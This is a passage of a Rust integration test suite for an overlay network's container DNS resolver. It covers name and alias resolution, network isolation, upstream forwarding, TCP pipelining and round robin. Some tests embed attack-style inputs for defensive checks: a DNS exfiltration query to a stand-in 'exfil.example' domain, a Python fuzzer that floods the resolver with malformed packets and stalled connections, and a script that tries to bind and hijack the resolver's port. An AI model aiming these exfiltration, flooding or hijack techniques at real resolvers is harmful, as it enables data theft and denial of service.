//! Service discovery: containers find each other by name across hosts.
//! Every container ovl attaches gets a resolver in its own namespace
//! (127.0.0.11, as Docker's); it answers the names, aliases and reverse
//! names of the endpoints on the asker's networks, wherever they run, and
//! forwards every other name to the host's resolvers.

use std::{
    collections::BTreeSet,
    net::Ipv4Addr,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use ovl_tests::{ChildHandle, DnsUpstream, Lab, Netns, ThreeHosts, TwoHosts, ping, wait_until};
use serde_json::Value;

const NETWORK: &str = "uber-net";
const SUBNET: &str = "198.18.0.0/24";
/// A second network, for isolation.
const OTHER: &str = "red-net";
const OTHER_SUBNET: &str = "198.18.1.0/24";
/// An `--internal` network.
const SEALED: &str = "sealed-net";
const SEALED_SUBNET: &str = "198.18.2.0/24";
/// The lab's upstream resolver (dnsmasq on the router, the A side).
const UPSTREAM: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 1);
/// A name only the lab's upstream knows, and its address.
const OUTSIDE_NAME: &str = "outside.example";
const OUTSIDE_ADDR: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
/// A name the lab's upstream says does not exist.
const MISSING_NAME: &str = "missing.example";

/// What `dig` printed: the status and the answer records' data.
#[derive(Debug)]
struct Dig {
    status: String,
    answers: Vec<String>,
    /// The resolver's answer time as dig measured it (no process start).
    took: Duration,
    output: String,
}

/// `dig` inside `ns` with the resolver of its resolv.conf (or `@server`
/// in `args`), one try; `args` are extra arguments (`+tcp`, `-x`, a type).
fn dig(ns: &Netns, name: &str, args: &[&str]) -> Result<Dig> {
    let mut argv = vec!["dig", "+tries=1", "+time=3", name];
    argv.extend_from_slice(args);
    let out = ns.exec_unchecked(&argv)?;
    let output = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let status = output
        .lines()
        .find_map(|l| l.split("status: ").nth(1))
        .map(|s| s.split(',').next().unwrap_or("").to_owned())
        .with_context(|| format!("no status from `{}` in {ns}:\n{output}", argv.join(" ")))?;
    let mut answers = Vec::new();
    let mut in_answers = false;
    for line in output.lines() {
        if line.starts_with(";; ANSWER SECTION") {
            in_answers = true;
        } else if line.trim().is_empty() {
            in_answers = false;
        } else if in_answers && let Some(data) = line.split_whitespace().last() {
            answers.push(data.to_owned());
        }
    }
    let took = output
        .lines()
        .find_map(|l| l.strip_prefix(";; Query time: "))
        .and_then(|t| t.strip_suffix(" msec"))
        .and_then(|ms| ms.parse().ok())
        .map(Duration::from_millis)
        .with_context(|| format!("no query time in:\n{output}"))?;
    Ok(Dig {
        status,
        answers,
        took,
        output,
    })
}

/// `dig` expecting NOERROR with exactly `want` as answers.
fn expect_answer(ns: &Netns, name: &str, args: &[&str], want: &[&str]) -> Result<()> {
    let d = dig(ns, name, args)?;
    ensure!(
        d.status == "NOERROR" && d.answers == want,
        "{name} {args:?} from {ns}: expected NOERROR {want:?}, got:\n{}",
        d.output
    );
    Ok(())
}

/// `getent hosts NAME` inside `ns`: (address, names) of its line.
fn getent(ns: &Netns, name: &str) -> Result<Option<(String, Vec<String>)>> {
    let out = ns.exec_unchecked(&["getent", "hosts", name])?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let Some(line) = text.lines().next() else {
        return Ok(None);
    };
    let mut words = line.split_whitespace().map(str::to_owned);
    let addr = words.next().context("empty getent line")?;
    Ok(Some((addr, words.collect())))
}

/// Network `uber-net` on two hosts: `web` (alias `www`) on B, `client`
/// on A, reaching each other.
struct Uber {
    world: TwoHosts,
    client: (Netns, Ipv4Addr),
    web: (Netns, Ipv4Addr),
}

impl Uber {
    fn start(lab: &Lab, agent_env: &[(&str, &str)]) -> Result<Uber> {
        let world = TwoHosts::start_with_env(lab, "auto", agent_env)?;
        world
            .ovl
            .create_network(&world.hosts[0].netns, NETWORK, SUBNET, &[])?;
        let web = named(lab, &world, 1, NETWORK, "web", &["--alias", "www"])?;
        let client = named(lab, &world, 0, NETWORK, "client", &[])?;
        wait_until(Duration::from_secs(10), || {
            Ok(ping(&client.0, web.1, 1, &["-W", "1"])?.all_received())
        })
        .context("client never reached web by address")?;
        Ok(Uber { world, client, web })
    }
}

/// A new container on host `i`, connected to `network` as `name`.
fn named(
    lab: &Lab,
    world: &TwoHosts,
    i: usize,
    network: &str,
    name: &str,
    extra: &[&str],
) -> Result<(Netns, Ipv4Addr)> {
    let c = lab.container(name)?;
    let mut args = vec!["--name", name];
    args.extend_from_slice(extra);
    let ip = world
        .ovl
        .connect(&world.hosts[i], TwoHosts::NODES[i], network, &c, &args)?;
    Ok((c, ip))
}

/// The DNS counters of `network` on host `i` (`ovl stats --json`).
fn dns_counters(world: &TwoHosts, i: usize, network: &str) -> Result<Value> {
    let out = world.run(i, &["stats", "--json", "--network", network])?;
    let v: Value = serde_json::from_str(&out).with_context(|| format!("stats: {out}"))?;
    Ok(v[0]["dns"].clone())
}

fn counter(v: &Value, key: &str) -> Result<u64> {
    v[key]
        .as_u64()
        .with_context(|| format!("dns.{key} missing in {v}"))
}

#[test]
fn containers_resolve_each_other_by_name_alias_and_address_across_hosts() -> Result<()> {
    let lab = Lab::new("dns-names")?;
    let u = Uber::start(&lab, &[])?;
    let (client, web) = (&u.client.0, u.web.1.to_string());
    let before = dns_counters(&u.world, 0, NETWORK)?;

    // glibc, through the resolv.conf `ovl connect` wrote for the namespace.
    let got = getent(client, "web")?.context("getent hosts web found nothing")?;
    ensure!(got.0 == web, "getent hosts web: {got:?}, want {web}");
    let got = getent(client, "www")?.context("getent hosts www found nothing")?;
    ensure!(
        got.0 == web,
        "getent hosts www (alias): {got:?}, want {web}"
    );
    // Reverse: the address's name is web.
    let got = getent(client, &web)?.context("getent hosts ADDR found nothing")?;
    ensure!(got.1 == ["web"], "reverse of {web}: {got:?}");
    // ping by name.
    let out = client.exec(&["ping", "-c", "2", "-W", "2", "web"])?;
    let text = String::from_utf8_lossy(&out.stdout);
    ensure!(
        text.contains(&format!("({web})")) && text.contains(" 0% packet loss"),
        "ping web:\n{text}"
    );
    // The protocol over UDP and TCP, both addresses, both directions.
    for args in [
        &[][..],
        &["+tcp"],
        &["@127.0.0.12"],
        &["@127.0.0.12", "+tcp"],
    ] {
        expect_answer(client, "web", args, &[&web])?;
    }
    expect_answer(client, "web.uber-net", &[], &[&web])?;
    expect_answer(client, "WWW", &[], &[&web])?;
    let o = u.web.1.octets();
    let ptr = format!("{}.{}.{}.{}.in-addr.arpa", o[3], o[2], o[1], o[0]);
    expect_answer(client, &ptr, &["PTR"], &["web."])?;
    expect_answer(&u.web.0, "client", &[], &[&u.client.1.to_string()])?;
    // The name exists without IPv6: NOERROR with no answers, not NXDOMAIN.
    let aaaa = dig(client, "web", &["AAAA"])?;
    ensure!(
        aaaa.status == "NOERROR" && aaaa.answers.is_empty(),
        "AAAA web:\n{}",
        aaaa.output
    );
    // Short TTL.
    let d = dig(client, "web", &[])?;
    let ttl_line = d
        .output
        .lines()
        .find(|l| l.starts_with("web.") && l.contains("\tA\t"))
        .context("no A line")?;
    let ttl: u32 = ttl_line.split_whitespace().nth(1).context("ttl")?.parse()?;
    ensure!(ttl <= 1, "TTL {ttl} in {ttl_line}");

    let after = dns_counters(&u.world, 0, NETWORK)?;
    ensure!(
        counter(&after, "answered")? >= counter(&before, "answered")? + 12,
        "answered did not count the questions: {before} -> {after}"
    );
    ensure!(counter(&after, "failed")? == counter(&before, "failed")?);
    // An EDNS version the resolver does not implement: BADVERS (RFC 6891),
    // never an answer as if it were version 0.
    let d = dig(client, "web", &["+edns=1", "+noednsnegotiation"])?;
    ensure!(
        d.status == "BADVERS" && d.answers.is_empty(),
        "EDNS version 1:\n{}",
        d.output
    );
    u.world.stop()
}

#[test]
fn names_of_other_networks_are_nxdomain() -> Result<()> {
    let lab = Lab::new("dns-scope")?;
    let u = Uber::start(&lab, &[])?;
    let world = &u.world;
    world
        .ovl
        .create_network(&world.hosts[0].netns, OTHER, OTHER_SUBNET, &[])?;
    // On host A with `client`, and on host B with `web`.
    let (red, _) = named(&lab, world, 0, OTHER, "red", &[])?;
    let (red_b, red_b_ip) = named(&lab, world, 1, OTHER, "redb", &[])?;
    for name in ["web", "www", "client"] {
        let d = dig(&red, name, &[])?;
        ensure!(d.status == "NXDOMAIN", "{name} from red-net:\n{d:?}");
        ensure!(getent(&red, name)?.is_none(), "getent {name} from red-net");
    }
    // NAME.NETWORK of a network the asker is not on is no name of ovl's
    // for it: it goes upstream (which the lab does not have here) like
    // any dotted name, and never gets web's address.
    let d = dig(&red, "web.uber-net", &[])?;
    ensure!(d.answers.is_empty(), "web.uber-net from red-net:\n{d:?}");
    // Its own network's names resolve, the other way round too.
    expect_answer(&red, "redb", &[], &[&red_b_ip.to_string()])?;
    let d = dig(&u.client.0, "redb", &[])?;
    ensure!(d.status == "NXDOMAIN", "redb from uber-net:\n{d:?}");
    // A container on both networks resolves both.
    let both = &u.client.0;
    world.ovl.connect(
        &world.hosts[0],
        TwoHosts::NODES[0],
        OTHER,
        both,
        &["--name", "client2"],
    )?;
    wait_until(Duration::from_secs(1), || {
        Ok(dig(both, "redb", &[])?.answers == [red_b_ip.to_string()])
    })
    .context("a container on both networks never resolved the second one's names")?;
    expect_answer(both, "web", &[], &[&u.web.1.to_string()])?;
    let _ = red_b;
    u.world.stop()
}

#[test]
fn a_disconnected_endpoint_stops_resolving_within_a_second() -> Result<()> {
    let lab = Lab::new("dns-leave")?;
    let u = Uber::start(&lab, &[])?;
    let world = &u.world;
    let client = &u.client.0;
    expect_answer(client, "web", &[], &[&u.web.1.to_string()])?;

    world.run(1, &["disconnect", NETWORK, u.web.0.name()])?;
    let gone = Instant::now();
    wait_until(Duration::from_secs(1), || {
        Ok(dig(client, "web", &[])?.status == "NXDOMAIN")
    })
    .context("web still resolves 1 s after its disconnect")?;
    eprintln!(
        "web NXDOMAIN {:?} after its disconnect returned",
        gone.elapsed()
    );
    ensure!(
        dig(client, "www", &[])?.status == "NXDOMAIN",
        "alias outlived its endpoint"
    );

    // Back elsewhere (host A, another address): resolves as soon as
    // `ovl connect` returns, which waits for the endpoint to forward.
    let new_ip = Ipv4Addr::new(198, 18, 0, 77);
    let (moved, _) = named(&lab, world, 0, NETWORK, "web", &["--ip", "198.18.0.77"])?;
    expect_answer(client, "web", &[], &[&new_ip.to_string()])?;
    let out = client.exec(&["ping", "-c", "1", "-W", "2", "web"])?;
    ensure!(
        String::from_utf8_lossy(&out.stdout).contains("(198.18.0.77)"),
        "ping web after the move"
    );
    let _ = moved;
    u.world.stop()
}

/// dnsmasq on the router at [`UPSTREAM`]: knows [`OUTSIDE_NAME`], says
/// [`MISSING_NAME`] does not exist, refuses the rest.
fn start_upstream(lab: &Lab, router: &Netns, from: &Netns) -> Result<ChildHandle> {
    let child = DnsUpstream {
        listen: UPSTREAM,
        known: &[(OUTSIDE_NAME, OUTSIDE_ADDR)],
        missing: &[MISSING_NAME],
        log_queries: true,
    }
    .start(lab, router)?;
    let server = format!("@{UPSTREAM}");
    wait_until(Duration::from_secs(5), || {
        Ok(dig(from, OUTSIDE_NAME, &[&server])?.answers == [OUTSIDE_ADDR.to_string()])
    })
    .with_context(|| format!("dnsmasq never answered:\n{}", child.output_report()))?;
    Ok(child)
}

#[test]
fn other_names_are_forwarded_upstream_and_servfail_when_it_is_down() -> Result<()> {
    let lab = Lab::new("dns-fwd")?;
    let upstream = UPSTREAM.to_string();
    let u = Uber::start(&lab, &[("OVL_DNS_UPSTREAM", &upstream)])?;
    let world = &u.world;
    let upstream = start_upstream(&lab, &world.router, &world.hosts[0].netns)?;
    let client = &u.client.0;
    let before = dns_counters(world, 0, NETWORK)?;

    // The upstream's answers reach the container as they were given, over
    // UDP and TCP (each forwarded with the asker's protocol).
    let outside = OUTSIDE_ADDR.to_string();
    expect_answer(client, OUTSIDE_NAME, &[], &[&outside])?;
    expect_answer(client, OUTSIDE_NAME, &["+tcp"], &[&outside])?;
    let got = getent(client, OUTSIDE_NAME)?.context("getent of the outside name")?;
    ensure!(got.0 == outside, "getent {OUTSIDE_NAME}: {got:?}");
    let d = dig(client, MISSING_NAME, &[])?;
    ensure!(d.status == "NXDOMAIN", "missing name:\n{}", d.output);
    let d = dig(client, "refused.example", &[])?;
    ensure!(
        d.status == "REFUSED",
        "the upstream's REFUSED is relayed:\n{}",
        d.output
    );
    ensure!(
        upstream
            .stderr()?
            .contains(&format!("query[A] {OUTSIDE_NAME} from 192.0.2.10")),
        "dnsmasq never saw the question:\n{}",
        upstream.output_report()
    );
    let mid = dns_counters(world, 0, NETWORK)?;
    ensure!(
        counter(&mid, "forwarded")? >= counter(&before, "forwarded")? + 5,
        "forwarded: {before} -> {mid}"
    );

    // A container on an `--internal` network only has no way out, and the
    // resolver is none: what is not ovl's is REFUSED, never asked upstream
    // (a question and its answer would carry data across).
    world.ovl.create_network(
        &world.hosts[0].netns,
        SEALED,
        SEALED_SUBNET,
        &["--internal"],
    )?;
    let (sealed, sealed_ip) = named(&lab, world, 0, SEALED, "sealed", &[])?;
    expect_answer(&sealed, "sealed", &[], &[&sealed_ip.to_string()])?;
    let sealed_before = dns_counters(world, 0, SEALED)?;
    let exfil = "c2VjcmV0.exfil.example";
    for (name, args) in [(exfil, ["-t", "TXT"]), (OUTSIDE_NAME, ["-t", "A"])] {
        let d = dig(&sealed, name, &args)?;
        ensure!(
            d.status == "REFUSED" && d.answers.is_empty(),
            "{name} from an internal network:\n{}",
            d.output
        );
    }
    let sealed_after = dns_counters(world, 0, SEALED)?;
    ensure!(
        counter(&sealed_after, "failed")? == counter(&sealed_before, "failed")? + 2
            && counter(&sealed_after, "forwarded")? == counter(&sealed_before, "forwarded")?,
        "{SEALED}: {sealed_before} -> {sealed_after}"
    );
    ensure!(
        !upstream.stderr()?.contains(exfil),
        "the upstream was asked for an internal network's container:\n{}",
        upstream.output_report()
    );

    // Upstream down: SERVFAIL within the forwarding budget (2 s, before
    // a stub resolver's own timeout), and ovl's names still answered.
    upstream.signal(ovl_tests::Signal::Kill)?;
    upstream.wait_timeout(Duration::from_secs(5))?;
    let d = dig(client, OUTSIDE_NAME, &[])?;
    ensure!(d.status == "SERVFAIL", "upstream down:\n{}", d.output);
    ensure!(
        d.took < Duration::from_secs(3),
        "SERVFAIL took {:?}",
        d.took
    );
    let d = dig(client, "web", &[])?;
    ensure!(d.answers == [u.web.1.to_string()], "web:\n{}", d.output);
    ensure!(
        d.took < Duration::from_millis(500),
        "an overlay name waited on the dead upstream: {:?}",
        d.took
    );
    let after = dns_counters(world, 0, NETWORK)?;
    ensure!(
        counter(&after, "failed")? > counter(&mid, "failed")?,
        "failed: {mid} -> {after}"
    );
    u.world.stop()
}

/// Without `--dns-upstream` the resolver forwards to the nameservers of the
/// host's resolv.conf and follows the file as it changes (a DHCP client or
/// NetworkManager rewrites it while the agent runs); a file listing none,
/// as while it is rewritten, keeps the last ones.
#[test]
fn the_hosts_resolv_conf_is_followed_as_it_changes() -> Result<()> {
    let lab = Lab::new("dns-follow")?;
    let mut u = Uber::start(&lab, &[])?;
    let host_a = u.world.hosts[0].netns.clone();
    let _upstream = start_upstream(&lab, &u.world.router, &host_a)?;
    // Host A's own resolv.conf, which `ip netns exec` mounts over
    // /etc/resolv.conf for the agent started after it exists (the lab
    // removes /etc/netns/NAME with the namespace). It lists host B, where
    // no resolver listens.
    let conf = std::path::Path::new("/etc/netns")
        .join(host_a.name())
        .join("resolv.conf");
    std::fs::create_dir_all(conf.parent().context("a parent")?)?;
    std::fs::write(&conf, "nameserver 198.51.100.10\n")?;
    u.world.kill_agent(0)?;
    u.world.restart_agent(&lab, 0, &[])?;
    let client = &u.client.0;
    let web = u.web.1.to_string();
    wait_until(Duration::from_secs(10), || {
        Ok(dig(client, "web", &[]).is_ok_and(|d| d.answers == [web.as_str()]))
    })
    .context("the restarted agent's resolver never answered")?;
    let d = dig(client, OUTSIDE_NAME, &[])?;
    ensure!(
        d.status == "SERVFAIL",
        "{OUTSIDE_NAME} with no resolver upstream:\n{}",
        d.output
    );

    // Rewritten in place (the file is bind-mounted: a new file renamed
    // over it would not show through).
    std::fs::write(&conf, format!("nameserver {UPSTREAM}\n"))?;
    let outside = OUTSIDE_ADDR.to_string();
    wait_until(Duration::from_secs(10), || {
        Ok(dig(client, OUTSIDE_NAME, &[]).is_ok_and(|d| d.answers == [outside.as_str()]))
    })
    .with_context(|| {
        format!(
            "the resolver never followed resolv.conf to {UPSTREAM}:\n{}",
            u.world.agents[0].output_report()
        )
    })?;

    std::fs::write(&conf, "# being rewritten\n")?;
    wait_until(Duration::from_secs(10), || {
        Ok(u.world.agents[0].log()?.contains("lists no nameserver now"))
    })
    .context("the agent never read the emptied resolv.conf")?;
    expect_answer(client, OUTSIDE_NAME, &[], &[&outside])?;
    u.world.stop()
}

/// Questions pipelined on one TCP connection are answered as their answers
/// come (RFC 7766 6.2.1.1), not in turn: a name of the overlay asked after
/// one that goes upstream is not held up by it. An asker that closes its
/// side after asking still gets every answer.
#[test]
fn pipelined_tcp_questions_are_answered_as_their_answers_come() -> Result<()> {
    let lab = Lab::new("dns-pipe")?;
    // The upstream drops every question: a forward ends in SERVFAIL when
    // its budget (2 s) runs out, long after a local answer.
    let upstream = UPSTREAM.to_string();
    let u = Uber::start(&lab, &[("OVL_DNS_UPSTREAM", &upstream)])?;
    let router = &u.world.router;
    router.exec(&["nft", "add", "table", "ip", "dnsdrop"])?;
    router.exec(&[
        "nft",
        "add",
        "chain",
        "ip",
        "dnsdrop",
        "in",
        "{ type filter hook input priority 0; }",
    ])?;
    // TCP too: a question asked over TCP is forwarded over TCP.
    router.exec(&[
        "nft",
        "add",
        "rule",
        "ip",
        "dnsdrop",
        "in",
        "meta",
        "l4proto",
        "{ tcp, udp }",
        "th",
        "dport",
        "53",
        "drop",
    ])?;
    let script = format!(
        "import socket, struct\n\
         from scapy.all import DNS, DNSQR\n\
         s = socket.create_connection(('127.0.0.11', 53), timeout=10)\n\
         for i, name in ((1, '{OUTSIDE_NAME}'), (2, 'web')):\n\
         \x20   q = bytes(DNS(id=i, rd=1, qd=DNSQR(qname=name)))\n\
         \x20   s.sendall(struct.pack('!H', len(q)) + q)\n\
         s.shutdown(socket.SHUT_WR)\n\
         buf = b''\n\
         while True:\n\
         \x20   d = s.recv(4096)\n\
         \x20   if not d:\n\
         \x20       break\n\
         \x20   buf += d\n\
         while len(buf) >= 2:\n\
         \x20   n = struct.unpack('!H', buf[:2])[0]\n\
         \x20   m = DNS(buf[2:2 + n])\n\
         \x20   buf = buf[2 + n:]\n\
         \x20   print(m.id, m.rcode, m.ancount, flush=True)\n"
    );
    let out = u.client.0.exec(&["/usr/bin/python3", "-c", &script])?;
    let got = String::from_utf8_lossy(&out.stdout).into_owned();
    // id rcode answers: web's answer (NOERROR, 1) first, then the
    // forward's SERVFAIL (2, none).
    ensure!(
        got == "2 0 1\n1 2 0\n",
        "answers in the order they came (id rcode answers):\n{got}{}\n{}",
        String::from_utf8_lossy(&out.stderr),
        u.world.agents[0].output_report()
    );
    u.world.stop()
}

/// Sends everything but a good question to the resolver: random bytes,
/// every truncation of a good question, bad counts, answers instead of
/// questions, 64 KiB TCP messages, stalled and excess TCP connections,
/// then a UDP flood. Prints what it sent.
const FUZZ: &str = r#"
import os, random, socket, struct, time
random.seed(11)
A = ("127.0.0.11", 53)
def query(name, qid=0x1234, flags=0x0100, qd=1, an=0):
    q = struct.pack(">HHHHHH", qid, flags, qd, an, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)
good = query("web")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for _ in range(3000):
    u.sendto(os.urandom(random.randint(0, 700)), A); sent += 1
for n in range(len(good)):
    u.sendto(good[:n], A); sent += 1
for msg in [query("web", qd=2), query("web", qd=0), query("web", an=65535),
            query("web", flags=0x8100), query("web", flags=0x2800),
            good + os.urandom(300), b"\xff" * 12, b"\x00" * 12]:
    u.sendto(msg, A); sent += 1
print("udp", sent)
time.sleep(0.5)
conns = []
for i in range(40):
    t = socket.socket(); t.settimeout(2)
    try:
        t.connect(A)
        if i % 4 == 0:
            t.sendall(struct.pack(">H", 65535) + os.urandom(65535))
        elif i % 4 == 1:
            t.sendall(struct.pack(">H", 65535) + os.urandom(10))
        elif i % 4 == 2:
            t.sendall(b"\x00")
        else:
            t.sendall(struct.pack(">H", len(good) - 5) + good[:-5])
    except OSError as e:
        print("tcp", i, e)
    conns.append(t)
print("tcp", len(conns))
end = time.time() + 2
flood = 0
while time.time() < end:
    try:
        u.sendto(query("flood%d" % (flood % 1000), qid=flood & 0xffff), A); flood += 1
    except OSError:
        pass
print("flood", flood)
for t in conns:
    t.close()
"#;

/// 100 datagrams of 5 bytes (less than a DNS header) at 100/s.
const SLOW_JUNK: &str = r#"
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(100):
    u.sendto(b"junk!", ("127.0.0.11", 53)); time.sleep(0.01)
"#;

/// Binds each resolver address's UDP port 53 as a program in a container
/// may (SO_REUSEADDR), and says per address whether the bind failed (the
/// errno), or which socket a question to the address then reached.
const TAKE_OVER: &str = r#"
import errno, socket, struct
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"\x03web\x00" + struct.pack(">HH", 1, 1)
for addr in ["127.0.0.11", "127.0.0.12"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind((addr, 53))
    except OSError as e:
        print(addr, errno.errorcode[e.errno]); continue
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.sendto(q, (addr, 53))
    s.settimeout(1)
    try:
        s.recv(512); print(addr, "taken")
    except socket.timeout:
        print(addr, "shared")
"#;

#[test]
fn malformed_questions_and_floods_never_stop_the_resolver() -> Result<()> {
    let lab = Lab::new("dns-fuzz")?;
    let u = Uber::start(&lab, &[])?;
    let world = &u.world;
    let client = &u.client.0;
    let web = u.web.1.to_string();
    // A neighbour on the same host, resolving while the client misbehaves.
    let (neighbour, _) = named(&lab, world, 0, NETWORK, "neighbour", &[])?;
    let before = dns_counters(world, 0, NETWORK)?;

    let fuzz = lab.spawn(client, &["python3", "-c", FUZZ], &[])?;
    let mut answered = 0;
    while fuzz.try_status()?.is_none() {
        expect_answer(&neighbour, "web", &[], &[&web])
            .context("the neighbour's resolution failed during the flood")?;
        answered += 1;
    }
    let status = fuzz.wait_timeout(Duration::from_secs(30))?;
    ensure!(status.success(), "fuzzer failed:\n{}", fuzz.output_report());
    eprintln!("{}", fuzz.stdout()?);
    ensure!(answered > 0, "the neighbour never asked during the flood");

    // The agent runs, and answers the misbehaving container right after.
    for agent in &world.agents {
        ensure!(
            agent.try_status()?.is_none(),
            "agent exited:\n{}",
            agent.output_report()
        );
    }
    wait_until(Duration::from_secs(2), || {
        Ok(dig(client, "web", &[])?.answers == [web.clone()])
    })
    .context("the resolver does not answer a good question after the fuzzing")?;
    expect_answer(client, "web", &["+tcp"], &[&web])?;
    let after = dns_counters(world, 0, NETWORK)?;
    eprintln!("dns counters before {before}\nafter {after}");
    // The junk comes faster than the limit (500/s, bursts of 1000): some
    // reaches the parser, the rest is dropped unread (by the limit, or by
    // the kernel when the socket's buffer is full, as on a busy machine).
    ensure!(
        counter(&after, "malformed")? > counter(&before, "malformed")?,
        "malformed not counted: {before} -> {after}"
    );
    // Junk within the limit is counted exactly: 100 messages shorter than
    // a DNS header, at 100/s, once the limit's bucket has refilled.
    std::thread::sleep(Duration::from_secs(3));
    let mid = dns_counters(world, 0, NETWORK)?;
    client.exec(&["python3", "-c", SLOW_JUNK])?;
    wait_until(Duration::from_secs(3), || {
        let now = dns_counters(world, 0, NETWORK)?;
        Ok(counter(&now, "malformed")? == counter(&mid, "malformed")? + 100)
    })
    .with_context(|| {
        format!(
            "100 short messages within the limit: malformed {mid} -> {}",
            dns_counters(world, 0, NETWORK).unwrap_or_default()
        )
    })?;
    ensure!(
        counter(&after, "rate_limited")? >= counter(&before, "rate_limited")? + 1000,
        "the flood was not limited: {before} -> {after}"
    );

    // A program in the container cannot take the resolver's addresses
    // over: its bind fails, and the questions still reach ovl.
    let out = client.exec(&["python3", "-c", TAKE_OVER])?;
    let said = String::from_utf8_lossy(&out.stdout);
    ensure!(
        said == "127.0.0.11 EADDRINUSE\n127.0.0.12 EADDRINUSE\n",
        "binding the resolver's addresses in the container:\n{said}"
    );
    expect_answer(client, "web", &[], &[&web])?;
    u.world.stop()
}

/// An alias several containers share — Docker's `--network-alias` on
/// replicas, the service name Compose gives each of them — resolves to
/// every one of them, across hosts, first in turns (DNS round robin, as
/// Docker's resolver answers), and a name that is another's alias to both;
/// each goes with its container. Before: the second `--alias svc` was
/// refused ("already taken").
#[test]
fn an_alias_containers_share_resolves_to_all_of_them_in_turns() -> Result<()> {
    let lab = Lab::new("dns-rr")?;
    let u = Uber::start(&lab, &[])?;
    let world = &u.world;
    let client = &u.client.0;
    let (r1, ip1) = named(&lab, world, 0, NETWORK, "replica1", &["--alias", "svc"])?;
    let (_r2, ip2) = named(
        &lab,
        world,
        1,
        NETWORK,
        "replica2",
        &["--alias", "svc", "--alias", "www"],
    )?;
    let (_r3, ip3) = named(&lab, world, 1, NETWORK, "svc", &[])?;
    let sorted = |ips: &[Ipv4Addr]| -> Vec<String> {
        let mut v: Vec<Ipv4Addr> = ips.to_vec();
        v.sort();
        v.iter().map(Ipv4Addr::to_string).collect()
    };
    let answers = |name: &str| -> Result<Vec<String>> {
        let d = dig(client, name, &[])?;
        ensure!(d.status == "NOERROR", "{name}: {}", d.output);
        Ok(d.answers)
    };
    let all = sorted(&[ip1, ip2, ip3]);
    wait_until(Duration::from_secs(10), || {
        let mut got = answers("svc")?;
        got.sort();
        Ok(got == all)
    })
    .with_context(|| format!("svc never resolved to {all:?}"))?;
    let mut firsts = BTreeSet::new();
    for _ in 0..40 {
        let got = answers("svc")?;
        let mut set = got.clone();
        set.sort();
        ensure!(set == all, "svc: {got:?}, want {all:?}");
        firsts.insert(got[0].clone());
    }
    ensure!(
        firsts.len() == 3,
        "40 answers put only {firsts:?} first, of {all:?}"
    );
    let mut www = answers("www")?;
    www.sort();
    ensure!(www == sorted(&[u.web.1, ip2]), "www: {www:?}");

    world.run(0, &["disconnect", NETWORK, r1.name()])?;
    let rest = sorted(&[ip2, ip3]);
    wait_until(Duration::from_secs(5), || {
        let mut got = answers("svc")?;
        got.sort();
        Ok(got == rest)
    })
    .with_context(|| format!("svc did not lose replica1: want {rest:?}"))?;
    u.world.stop()
}

#[test]
fn names_are_unique_per_network_and_clashes_are_refused_clearly() -> Result<()> {
    let lab = Lab::new("dns-clash")?;
    let u = Uber::start(&lab, &[])?;
    let world = &u.world;
    let endpoints = |w: &TwoHosts| -> Result<usize> {
        Ok(w.inspect(0, NETWORK)?["endpoints"]
            .as_array()
            .context("endpoints")?
            .len())
    };
    let count = endpoints(world)?;
    let c = lab.container("clash")?;
    for (args, says) in [
        (&["--name", "WEB"][..], "already taken"),
        (&["--name", "bad name"], "invalid endpoint name"),
        (&["--name", "x", "--alias=-x"], "invalid endpoint name"),
    ] {
        let mut argv = vec!["connect", NETWORK, c.name()];
        argv.extend_from_slice(args);
        let out = world
            .ovl
            .run_unchecked(&world.hosts[0].netns, TwoHosts::NODES[0], &argv)?;
        let err = String::from_utf8_lossy(&out.stderr);
        ensure!(!out.status.success(), "{args:?} accepted");
        ensure!(err.contains(says), "{args:?}: {err}");
        // Nothing registered, no interface, no resolv.conf.
        ensure!(endpoints(world)? == count, "{args:?} left an endpoint");
        let links = c.ip(&["-o", "link"])?;
        ensure!(
            String::from_utf8_lossy(&links.stdout).lines().count() == 1,
            "{args:?} left a link in the container"
        );
        let conf = format!("/etc/netns/{}/resolv.conf", c.name());
        ensure!(
            !std::path::Path::new(&conf).exists(),
            "{args:?} left {conf}"
        );
    }
    let out = world.ovl.run(
        &world.hosts[0].netns,
        TwoHosts::NODES[0],
        &[
            "connect",
            NETWORK,
            c.name(),
            "--name",
            "web2",
            "--alias",
            "www2",
            "--alias",
            "www",
        ],
    )?;
    // An alias is no clash: web's `www` is shared.
    ensure!(out.contains("names: web2, www2, www"), "{out}");
    let conf = format!("/etc/netns/{}/resolv.conf", c.name());
    let text = std::fs::read_to_string(&conf).with_context(|| conf.clone())?;
    ensure!(text.contains("nameserver 127.0.0.11"), "{text}");
    // The last disconnect takes ovl's resolv.conf away.
    world.run(0, &["disconnect", NETWORK, c.name()])?;
    ensure!(
        !std::path::Path::new(&conf).exists(),
        "{conf} outlived the disconnect"
    );
    u.world.stop()
}

#[test]
fn etcd_names_survive_races_and_a_dead_nodes_names_go() -> Result<()> {
    let lab = Lab::new("dns-etcd")?;
    let ttl = 3;
    let world = ThreeHosts::start(&lab, ttl)?;
    world
        .ovl
        .create_network(&world.hosts[0].netns, NETWORK, SUBNET, &[])?;

    // Three hosts ask for the same name at once, each with an address of
    // its own (so only the name can collide): exactly one gets it.
    let racers: Vec<Netns> = (0..3)
        .map(|i| lab.container(&format!("racer{i}")))
        .collect::<Result<_>>()?;
    let results: Vec<bool> = std::thread::scope(|s| {
        let handles: Vec<_> = racers
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let world = &world;
                s.spawn(move || {
                    let ip = format!("198.18.0.{}", 10 + i);
                    world
                        .ovl
                        .run_unchecked(
                            &world.hosts[i].netns,
                            ThreeHosts::NODES[i],
                            &["connect", NETWORK, c.name(), "--name", "same", "--ip", &ip],
                        )
                        .map(|o| o.status.success())
                })
            })
            .collect();
        handles
            .into_iter()
